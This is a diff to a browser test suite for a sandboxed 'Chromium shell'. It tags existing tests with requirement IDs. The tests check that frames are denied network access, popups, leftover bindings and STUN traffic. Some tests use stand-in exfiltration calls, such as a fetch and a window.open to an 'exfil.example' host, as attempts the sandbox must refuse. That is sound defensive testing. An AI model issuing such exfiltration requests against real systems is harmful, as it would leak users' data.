@@ -116,13 +116,13 @@ describe("Chromium shell", () => {
     expect(await page.evaluate("heard.length")).toBe(3);
   });
 
-  it("R3: the picture frame has no bridge, and no binding is left lying about in any frame", async () => {
+  it("A34 A36 R3: the picture frame has no bridge, and no binding is left lying about in any frame", async () => {
     const leftovers = `Object.getOwnPropertyNames(globalThis).filter((name) => /^b[0-9a-f]{32}$/.test(name) || name === "workstation")`;
     expect(await picture.evaluate(leftovers)).toEqual([]);
     expect(await page.evaluate(leftovers)).toEqual(["workstation"]);
   });
 
-  it("R3: a frame without an address that the page makes has no bridge", async () => {
+  it("A34 R3: a frame without an address that the page makes has no bridge", async () => {
     expect(
       await page.evaluate(`(() => {
         const frame = document.body.appendChild(document.createElement("iframe"));
@@ -155,7 +155,7 @@ describe("Chromium shell", () => {
     expect(app.vaultRequests.filter(({ path }) => path === "/frames")).toEqual([]);
   });
 
-  it("O-1: a request to anywhere else is refused and observed without its path", async () => {
+  it("A12 O-1: a request to anywhere else is refused and observed without its path", async () => {
     const before = app.events.length;
     expect(await picture.evaluate(`fetch("https://exfil.example/secret").then(() => "sent", () => "refused")`)).toBe(
       "refused",
@@ -174,7 +174,7 @@ describe("Chromium shell", () => {
     expect(page.url()).toBe("https://app.vitrine.invalid/");
   });
 
-  it("opens no window, prints nothing, keeps nothing", async () => {
+  it("A14 A15 opens no window, prints nothing, keeps nothing", async () => {
     expect(await page.evaluate(`window.open("about:blank") === null`)).toBe(true);
     expect(
       await page.evaluate(
@@ -210,7 +210,7 @@ describe("Chromium shell", () => {
     ["bytes=0-1,4-5", 416, "bytes */"],
     ["bytes=99999999999999-", 416, "bytes */"],
     ["items=0-5", 416, "bytes */"],
-  ])("answers Range %j with %i", async (range, status, contentRange) => {
+  ])("A30 answers Range %j with %i", async (range, status, contentRange) => {
     const answer = await picture.evaluate(async (header) => {
       const response = await fetch("./media", { headers: { range: header } });
       return { status: response.status, range: response.headers.get("content-range") };
@@ -308,7 +308,7 @@ describe("Chromium shell without the pages' own policy", () => {
     expect(app.events).toContainEqual(blocked("request", vault));
   });
 
-  it("does not let a frame open the samples themselves", async () => {
+  it("A12 does not let a frame open the samples themselves", async () => {
     const before = app.vaultRequests.length;
     await page.evaluate(
       `(() => { const frame = document.createElement("iframe"); frame.src = "${vault}/ticket-1/media"; document.body.append(frame); })()`,
@@ -317,7 +317,7 @@ describe("Chromium shell without the pages' own policy", () => {
     expect(app.vaultRequests.slice(before).filter(({ path }) => path === "/media")).toEqual([]);
   });
 
-  it("closes and observes another window", async () => {
+  it("A14 closes and observes another window", async () => {
     // By a real click: without one the browser's own popup blocker is in the way.
     await page.evaluate(`(() => { document.onclick = () => { window.open("https://exfil.example/x"); }; })()`);
     await page.mouse.click(40, 30);
@@ -335,7 +335,7 @@ describe("Chromium shell without the pages' own policy", () => {
     await expect.poll(async () => page.evaluate("typeof workstation")).toBe("object");
   });
 
-  it("R3: reaches no STUN server, whatever the page's policy", async () => {
+  it("A24 R3: reaches no STUN server, whatever the page's policy", async () => {
     const stun = createSocket("udp4");
     let packets = 0;
     stun.on("message", () => (packets += 1));
